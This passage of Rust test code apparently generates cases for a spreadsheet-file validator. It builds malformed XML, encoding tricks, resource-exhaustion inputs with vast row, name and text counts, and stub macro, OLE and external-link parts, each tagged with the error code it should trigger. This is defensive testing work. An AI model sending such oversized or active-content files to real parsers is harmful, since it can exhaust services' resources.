    raw(cases, &["GJ4330"], "another namespace", SHEET, || b"<worksheet xmlns=\"x\"><sheetData/></worksheet>".to_vec());
    raw(cases, &["GJ4325"], "two roots", SHEET, move || sheet("").repeat(2).into_bytes());
    raw(cases, &["GJ4325"], "text behind the root", SHEET, move || (sheet("") + "x").into_bytes());
    raw(cases, &["GJ4325"], "text before the root", SHEET, move || ("x".to_owned() + &sheet("")).into_bytes());
    raw(cases, &["GJ4325"], "no end of the root", SHEET, move || sheet(one).replace("</worksheet>", "").into_bytes());
    raw(cases, &["GJ4325"], "an end within a tag", SHEET, move || {
        sheet(one).replace("</worksheet>", "</works").into_bytes()
    });
    raw(cases, &["GJ4325"], "another end of the root", SHEET, move || {
        sheet(one).replace("</worksheet>", "</x>").into_bytes()
    });
    raw(cases, &["GJ4325"], "an attribute without quotes", SHEET, move || {
        sheet(one).replace("<c>", "<c r=A1>").into_bytes()
    });
    raw(cases, &["GJ4326"], "bytes of no encoding", SHEET, move || {
        let mut bytes = sheet("<sheetData><row><c t=\"str\"><v>????</v></c></row></sheetData>").into_bytes();
        bytes.iter_mut().filter(|byte| **byte == b'?').for_each(|byte| *byte = 0xC8);
        bytes
    });
    for (name, encoding) in [
        ("a Chinese encoding", "GB18030"),
        ("a Western encoding", "ISO-8859-1"),
        ("an encoding that is another", "UTF-16"),
    ] {
        raw(cases, &["GJ4326"], name, SHEET, move || {
            format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{}", sheet(one)).into_bytes()
        });
    }
    let declared = move |encoding: &str| format!("<?xml version=\"1.0\" encoding=\"{encoding}\"?>{}", sheet(one));
    raw(cases, &[], "UTF-16, little end first", SHEET, move || {
        wide(&format!("\u{FEFF}{}", declared("UTF-16")), u16::to_le_bytes)
    });
    raw(cases, &[], "UTF-16, big end first", SHEET, move || {
        wide(&format!("\u{FEFF}{}", declared("UTF-16")), u16::to_be_bytes)
    });
    raw(cases, &[], "UTF-16 without a mark", SHEET, move || wide(&declared("utf-16"), u16::to_le_bytes));
    raw(cases, &["GJ4326"], "UTF-16 that says it is UTF-8", SHEET, move || wide(&declared("UTF-8"), u16::to_le_bytes));
    raw(cases, &["GJ4326"], "half a character of UTF-16", SHEET, move || {
        let mut bytes = wide(&declared("utf-16"), u16::to_le_bytes);
        let at = bytes.windows(2).position(|pair| pair == [b'1', 0]).expect("a digit") + 60;
        bytes.splice(at / 2 * 2..at / 2 * 2, [0x00, 0xD8]);
        bytes
    });
    raw(cases, &["GJ4330"], "four bytes a character", SHEET, move || {
        declared("UTF-32").chars().flat_map(|c| u32::from(c).to_le_bytes()).collect()
    });
    raw(cases, &[], "a mark of UTF-8", SHEET, move || format!("\u{FEFF}{}", declared("utf-8")).into_bytes());
    raw(cases, &[], "the strict namespace", SHEET, move || {
        sheet(one).replace(MAIN, "http://purl.oclc.org/ooxml/spreadsheetml/main").into_bytes()
    });
    raw(cases, &[], "a prefix", SHEET, move || {
        let prefixed = sheet(one).replace("</", "</x:").replace('<', "<x:").replace("<x:/x:", "</x:");
        prefixed.replace("xmlns=", "xmlns:x=").into_bytes()
    });
    raw(cases, &[], "another namespace inside", SHEET, move || {
        sheet(&(one.to_owned() + "<sheetData xmlns=\"x\"><row><c r=\"A1\"><v>2</v></c></row></sheetData>")).into_bytes()
    });
}

fn wide(text: &str, bytes: fn(u16) -> [u8; 2]) -> Vec<u8> {
    text.encode_utf16().flat_map(bytes).collect()
}

/// More of everything than anybody fills in.
fn quantities(cases: &mut Vec<Case>) {
    part(cases, &["GJ4332"], "cells beyond counting", SHEET, || filled(4_001, 100));
    part(cases, &[], "as many cells as may be", SHEET, || filled(4_000, 100));
    part(cases, &[], "as many cells as may be, in the worst rows", SHEET, || filled(33_333, 12));
    part(cases, &["GJ4332"], "filled rows beyond counting", SHEET, || filled(65_537, 1));
    part(cases, &[], "empty rows beyond counting", SHEET, || {
        (1..=500_000).fold(String::new(), |mut text, row| {
            write!(text, "<row r=\"{row}\"/>").expect("memory");
            text
        })
    });
    part(cases, &[], "empty cells beyond counting", SHEET, || {
        (1..=2_000).fold(String::new(), |mut text, row| {
            write!(text, "<row r=\"{row}\">").expect("memory");
            for column in 0..250u32 {
                let (first, second) = (column / 26, column % 26);
                let letter = |number: u32| char::from(b'A' + u8::try_from(number).unwrap_or(0));
                write!(text, "<c r=\"A{}{}{row}\" s=\"1\"/>", letter(first), letter(second)).expect("memory");
            }
            text + "</row>"
        })
    });
    part(cases, &["GJ4336"], "a row without an end", SHEET, || {
        format!(
            "<row>{}</row>",
            (0..16_400).fold(String::new(), |text, number| format!("{text}<c><v>{number}</v></c>"))
        )
    });
    add(cases, &["GJ4333"], "one long text in a thousand cells", || {
        let mut parts = Parts::plain();
        parts.inside(TEXTS, &format!("<si><t>{}</t></si>", noise(32_767)));
        parts.inside(
            SHEET,
            &(1..=1_000)
                .fold(String::new(), |text, row| format!("{text}<row r=\"{row}\"><c t=\"s\"><v>0</v></c></row>")),
        );
        parts.bytes()
    });
    add(cases, &[], "as much text as may be, everywhere", || {
        let mut parts = Parts::plain();
        let texts = (0..30_000).fold(String::new(), |mut text, number| {
            write!(text, "<si><t>{number:05}{}</t></si>", noise(265)).expect("memory");
            text
        });
        parts.inside(TEXTS, &texts);
        let rows = (0..30_000).fold(String::new(), |mut text, row| {
            write!(text, "<row r=\"{}\"><c t=\"s\"><v>{row}</v></c></row>", row + 1).expect("memory");
            text
        });
        parts.inside(SHEET, &rows).bytes()
    });
    part(cases, &["GJ4332"], "shared texts beyond counting", TEXTS, || {
        (0..400_001).fold(String::new(), |mut text, number| {
            write!(text, "<si><t>{number}</t></si>").expect("memory");
            text
        })
    });
    part(cases, &["GJ4333"], "shared texts that are too much together", TEXTS, || {
        let piece = noise(30_000);
        (0..300).fold(String::new(), |mut text, number| {
            write!(text, "<si><t>{number}{piece}</t></si>").expect("memory");
            text
        })
    });
    part(cases, &["GJ4332", "GJ4338", "GJ4343"], "wrong cells beyond counting", SHEET, || {
        (1..=5_000).fold(String::new(), |mut text, row| {
            write!(text, "<row r=\"{row}\">").expect("memory");
            (0..90).for_each(|column| write!(text, "<c><v>x{row}y{column}</v></c>").expect("memory"));
            text + "</row>"
        })
    });
    part(cases, &["GJ4332"], "merged areas beyond counting", SHEET, || {
        let areas = (0..65_537).fold(String::new(), |mut text, row| {
            write!(text, "<mergeCell ref=\"A{row}:B{row}\"/>", row = row % 1_000_000 + 1).expect("memory");
            text
        });
        format!("<row/><mergeCells>{areas}</mergeCells>")
    });
    part(cases, &["GJ4332"], "sheets beyond counting", BOOK, || {
        let sheets: String = (0..201).map(|number| format!("<sheet name=\"s{number}\" r:id=\"r1\"/>")).collect();
        format!("<sheets>{sheets}</sheets>")
    });
    add(cases, &["GJ4333"], "too much on every sheet", || {
        let mut parts = Parts::plain();
        let sheets: String = (0..150).map(|number| format!("<sheet name=\"s{number}\" r:id=\"r1\"/>")).collect();
        parts.inside(BOOK, &format!("<sheets>{sheets}</sheets>"));
        parts.inside(TEXTS, &format!("<si><t>{}</t></si>", noise(30_000)));
        parts.inside(
            SHEET,
            &(1..=300).fold(String::new(), |text, row| format!("{text}<row r=\"{row}\"><c t=\"s\"><v>0</v></c></row>")),
        );
        parts.bytes()
    });
    part(cases, &["GJ4332"], "defined names beyond counting", BOOK, || {
        let names: String =
            (0..10_001).map(|number| format!("<definedName name=\"n{number}\">1</definedName>")).collect();
        format!("<sheets><sheet name=\"s\" r:id=\"r1\"/></sheets><definedNames>{names}</definedNames>")
    });
    part(cases, &["GJ4333"], "defined names that are too much together", BOOK, || {
        let value = noise(30_000);
        let names: String =
            (0..300).map(|number| format!("<definedName name=\"n{number}\">{value}</definedName>")).collect();
        format!("<sheets><sheet name=\"s\" r:id=\"r1\"/></sheets><definedNames>{names}</definedNames>")
    });
    part(cases, &["GJ4332"], "properties beyond counting", PROPERTIES, || {
        (0..1_001).map(|number| format!("<property name=\"n{number}\"><vt:i4>1</vt:i4></property>")).collect()
    });
    part(cases, &["GJ4332"], "references beyond counting", BOOK_RELATIONS, || {
        (0..10_001)
            .map(|number| format!("<Relationship Id=\"x{number}\" Type=\"{RELATIONS}/x\" Target=\"x{number}\"/>"))
            .collect()
    });
    part(cases, &["GJ4331"], "references with endless names", BOOK_RELATIONS, || {
        (0..20)
            .map(|_| format!("<Relationship Id=\"{0}\" Type=\"{RELATIONS}/x\" Target=\"{0}\"/>", noise(900_000 / 2)))
            .collect()
    });
    part(cases, &["GJ4342"], "sheets with endless names", BOOK, || {
        let sheets: String =
            (0..20).map(|number| format!("<sheet name=\"{number}{}\" r:id=\"r1\"/>", noise(1_000_000))).collect();
        format!("<sheets>{sheets}</sheets>")
    });
    add(cases, &[], "a web address in each of many rows", || {
        let links = (0..40_000).fold(String::new(), |mut text, number| {
            write!(text, "<Relationship Id=\"x{number}\" Type=\"{RELATIONS}/hyperlink\" Target=\"https://example.com/{number}\" TargetMode=\"External\"/>").expect("memory");
            text
        });
        Parts::plain().inside("xl/worksheets/_rels/sheet1.xml.rels", &links).bytes()
    });
    part(cases, &["GJ4332"], "formulas of areas beyond counting", SHEET, || {
        let cells: String = (0..10_001).map(|_| "<c><f t=\"array\" ref=\"A1:B2\"/></c>").collect();
        format!("<row>{cells}</row>")
    });
    part(cases, &["GJ4332"], "formulas of the same large area", SHEET, || {
        let cells: String =
            (0..5_000).map(|number| format!("<c><f t=\"array\" ref=\"A1:XFD1048576\"/><v>{number}</v></c>")).collect();
        format!(
            "<row>{cells}</row>{}",
            filled(1_000, 1).replace("r=\"1\"", "r=\"2000\"").replace("r=\"A1\"", "r=\"A2000\"")
        )
    });
}

/// So many rows of so many cells with numbers.
fn filled(rows: u32, columns: u32) -> String {
    (1..=rows).fold(String::new(), |mut text, row| {
        write!(text, "<row r=\"{row}\">").expect("memory");
        for column in 1..=columns {
            let name = guiju::diagnostic::cell_name(row, column);
            write!(text, "<c r=\"{name}\"><v>{}</v></c>", row * column).expect("memory");
        }
        text + "</row>"
    })
}

/// What acts on its own, or reaches out of the file.
fn active_content(cases: &mut Vec<Case>) {
    let parts = [
        ("GJ4307", "xl/vbaProject.bin"),
        ("GJ4307", "xl/vbaData.xml"),
        ("GJ4307", "xl/macrosheets/sheet1.xml"),
        ("GJ4308", "xl/externalLinks/externalLink1.xml"),
        ("GJ4309", "xl/embeddings/oleObject1.bin"),
        ("GJ4309", "xl/embeddings/other.xlsx"),
        ("GJ4309", "xl/activeX/activeX1.xml"),
        ("GJ4309", "xl/ctrlProps/ctrlProp1.xml"),
    ];
    for (code, name) in parts {
        add(cases, &[code], &format!("the part {name}"), move || Parts::plain().set(name, "x").bytes());
    }
    let types = [
        ("GJ4307", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
        ("GJ4307", "application/vnd.ms-office.vbaProject"),
        ("GJ4308", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"),
        ("GJ4309", "application/vnd.openxmlformats-officedocument.oleObject"),
        ("GJ4309", "application/vnd.ms-office.activeX+xml"),
        ("GJ4309", "application/vnd.ms-excel.controlproperties+xml"),
    ];
    for (code, kind) in types {
        part(cases, std::slice::from_ref(&code), &format!("the type {kind}"), TYPES, move || {
            format!("<Override PartName=\"/xl/x\" ContentType=\"{kind}\"/>")
        });
    }
    let relations = [
        (Some("GJ4307"), "vbaProject", "x.bin", false),
        (Some("GJ4307"), "xlMacrosheet", "x.xml", false),
        (Some("GJ4307"), "dialogsheet", "x.xml", false),
        (Some("GJ4308"), "externalLink", "x.xml", false),
        (Some("GJ4308"), "externalLinkPath", "file:///c:/x.xlsx", true),
        (Some("GJ4308"), "image", "http://example.com/x.png", true),
        (Some("GJ4308"), "attachedTemplate", "\\\\server\\x.xltx", true),
        (Some("GJ4309"), "oleObject", "x.bin", false),
        (Some("GJ4309"), "package", "x.docx", false),
        (Some("GJ4309"), "control", "x.xml", false),
        (None, "hyperlink", "https://example.com/", true),
    ];
    for (code, kind, target, external) in relations {
        let codes: Vec<&str> = code.into_iter().collect();
        add(cases, &codes, &format!("a reference to {kind}"), move || {
            Parts::plain().relate(BOOK_RELATIONS, kind, target, external).bytes()
        });
    }
    add(cases, &["GJ4308"], "a reference out of the file from a drawing", || {
        let mut parts = Parts::plain();
        parts.inside("xl/drawings/_rels/drawing1.xml.rels", "").relate(
            "xl/drawings/_rels/drawing1.xml.rels",
            "image",
            "http://example.com/x.png",
            true,
        );
        parts.bytes()
    });
    add(cases, &["GJ4307", "GJ4308", "GJ4309"], "everything at once", || {
        Parts::plain()
            .set("xl/vbaProject.bin", "x")
            .set("xl/externalLinks/x.xml", "x")
            .set("xl/embeddings/x.bin", "x")
            .bytes()
    });
}
